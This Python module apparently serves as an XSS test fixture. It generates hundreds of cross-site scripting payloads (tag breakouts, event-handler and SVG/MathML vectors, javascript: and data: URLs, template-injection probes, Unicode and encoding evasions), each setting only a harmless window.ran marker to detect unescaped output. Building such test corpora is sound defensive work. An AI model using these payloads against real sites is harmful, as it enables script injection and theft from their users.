"""Words that would run as a script where they are not escaped: forms that are known, and what they
make when they are put into each place of a page. ``PAYLOADS`` are all of them, each once.

What runs sets ``window.ran``; a page on which that is set has failed.
"""

from __future__ import annotations

from collections.abc import Iterator
from html import escape
from itertools import product
from typing import Final
from urllib.parse import quote

RUN: Final = "window.ran=1"

#: Ways out of where words stand in a page.
BREAKS: Final = (
    "",
    "'",
    '"',
    "`",
    ">",
    "'>",
    '">',
    "`>",
    "' ",
    '" ',
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "</template>",
    "</select>",
    "</option>",
    "</svg>",
    "</math>",
    "</iframe>",
    "</q>",
    "</dialog>",
)
#: What runs when it stands in a page as it is.
ELEMENTS: Final = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script/x>{run}</script >",
    "<script\n>{run}</script\n>",
    '<script src="data:text/javascript,{run}"></script>',
    "<img src=x onerror={run}>",
    "<img src=x onerror='{run}'>",
    '<IMG SRC=x ONERROR="{run}">',
    "<img/src=x/onerror={run}>",
    "<img src=x\tonerror={run}>",
    "<img src=x\nonerror\n=\n{run}>",
    "<img src onerror={run} x=",
    "<svg onload={run}>",
    "<svg/onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set onbegin={run} attributeName=x>",
    "<svg><a xlink:href='javascript:{run}'><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<body onload={run}>",
    "<body onpageshow={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<button autofocus onfocus={run}>x</button>",
    "<details open ontoggle={run}>",
    "<video><source onerror={run}></video>",
    "<video src=x onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    '<object data="data:text/html,<script>parent.{run}</script>"></object>',
    '<embed src="data:text/html,<script>parent.{run}</script>">',
    '<iframe src="javascript:parent.{run}"></iframe>',
    '<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
    "<iframe onload={run}></iframe>",
    "<link rel=stylesheet href=x onerror={run}>",
    "<link rel=preload as=script href=x onerror={run}>",
    '<meta http-equiv=refresh content="0;url=javascript:{run}">',
    '<base href="javascript:{run}//">',
    '<form><button formaction="javascript:{run}" autofocus>x</button></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    '<math><mi xlink:href="data:x,<script>{run}</script>">x</mi></math>',
    '<style>@keyframes x{{}}</style><p style="animation:x 1s" onanimationstart={run}>',
    '<p style="animation-name:spin" onanimationend={run}>x</p>',
    '<style><img src="</style><img src=x onerror={run}>">',
    '<noscript><p title="</noscript><img src=x onerror={run}>">',
    '<xmp><p title="</xmp><img src=x onerror={run}>">',
    "<plaintext><img src=x onerror={run}>",
    "<!--><img src=x onerror={run}>-->",
    "<!--[if gte IE 4]><script>{run}</script><![endif]-->",
    "<![CDATA[><img src=x onerror={run}>]]>",
    '<?xml version="1.0"?><img src=x onerror={run}>',
    "<marquee onstart={run}>x</marquee>",
    '<a href="javascript:{run}">x</a>',
    '<a href="java\tscript:{run}">x</a>',
    '<a href="&#106;avascript:{run}">x</a>',
    '<a href=" javascript:{run}">x</a>',
    '<area href="javascript:{run}">',
    '<div hx-get="/" hx-trigger=load hx-on::load="{run}">x</div>',
    '<div hx-on:load="{run}" hx-vals="js:{{x:{run}}}">x</div>',
    '<div data-hx-on="htmx:load: {run}">x</div>',
    "<p contenteditable autofocus onfocus={run}>x</p>",
    "<p tabindex=0 autofocus onfocus={run}>x</p>",
    "<x onclick={run} autofocus tabindex=0 onfocus={run}>x</x>",
    "<custom-element onpointerover={run}>x</custom-element>",
)
#: What runs where it stands in an attribute, or in words of a script.
INSIDE: Final = (
    "onerror={run}",
    "' onmouseover='{run}",
    '" onmouseover="{run}',
    '" autofocus onfocus="{run}',
    "' autofocus onfocus='{run}",
    '" onanimationstart="{run}" style="animation:x',
    'x" src=x onerror="{run}',
    "';{run};'",
    '";{run};"',
    "`;{run};`",
    "${{{run}}}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "{{{{ {run} }}}}",
    "{{% {run} %}}",
    "{{{{ ''.__class__.__mro__ }}}}",
    "</script><script>{run}</script>",
    "<!--<script>{run}",
    "\u2028{run}\u2029",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{run}\\x3c/script\\x3e",
    "\\'-{run}-\\'",
    '\\";{run}//',
)
#: Addresses that run when they are followed.
ADDRESSES: Final = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "\tjavascript:{run}",
    "java\nscript:{run}",
    "java\tscript:{run}",
    "\x01javascript:{run}",
    "javascript://x/%0a{run}",
    "javascript:/*x*/{run}",
    "javascript&colon;{run}",
    "vbscript:{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    'http://x/"onmouseover="{run}',
    "http://x/' onmouseover='{run}",
    "http://x/><script>{run}</script>",
    "http://user:javascript@x/{run}",
    "//x/{run}",
    "\\\\x\\{run}",
    "blob:http://x/{run}",
    "feed:javascript:{run}",
    "view-source:javascript:{run}",
)
#: Letters in other dress, which some fold into markup.
FOLDED: Final = (
    "＜script＞{run}＜/script＞",
    "‹script›{run}‹/script›",
    "\u0001<script>{run}</script>",
    "<scr\u200bipt>{run}</scr\u200bipt>",
    "<scr\u0000ipt>{run}</script>",
    "\u202e<script>{run}</script>",
    "\u2066<img src=x onerror={run}>\u2069",
    "<ſcript>{run}</ſcript>",
    "<ıframe src=javascript:{run}>",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "¼script¾{run}¼/script¾",
    "\u00ad<svg onload={run}>",
)


def _made() -> Iterator[str]:
    for form in (*ELEMENTS, *INSIDE, *ADDRESSES, *FOLDED):
        yield form.format(run=RUN)
    # Each way out before the shortest forms that need it.
    for way, form in product(BREAKS, ELEMENTS[:12]):
        yield way + form.format(run=RUN)
    # The same, encoded once: what decodes twice would run it.
    for form in (*ELEMENTS[:24], *INSIDE[:4]):
        plain = form.format(run=RUN)
        yield escape(plain)
        yield quote(plain)
        yield "".join(f"&#{ord(c)};" for c in plain)
        yield "".join(f"&#x{ord(c):x}" for c in plain)


PAYLOADS: Final = tuple(dict.fromkeys(_made()))
